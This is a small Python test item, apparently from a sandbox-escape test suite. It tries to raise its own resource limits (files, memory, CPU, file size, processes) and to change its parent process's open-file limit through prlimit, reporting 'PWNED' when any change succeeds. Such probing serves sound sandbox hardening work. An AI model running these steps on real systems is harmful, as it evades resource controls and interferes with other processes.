# attack: raise-a-limit
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: kernel
# success: raises a resource limit, its own or its parent's
import os, resource
def run():
    raised = []
    for name in ("RLIMIT_NOFILE", "RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NPROC"):
        kind = getattr(resource, name)
        try:
            resource.setrlimit(kind, (1 << 40, 1 << 40))
        except (OSError, ValueError):
            continue
        raised.append(name)
    try:
        resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (64, 64))
        raised.append("of the parent")
    except (OSError, ValueError):
        pass
    return "PWNED " + ",".join(raised) if raised else "refused"
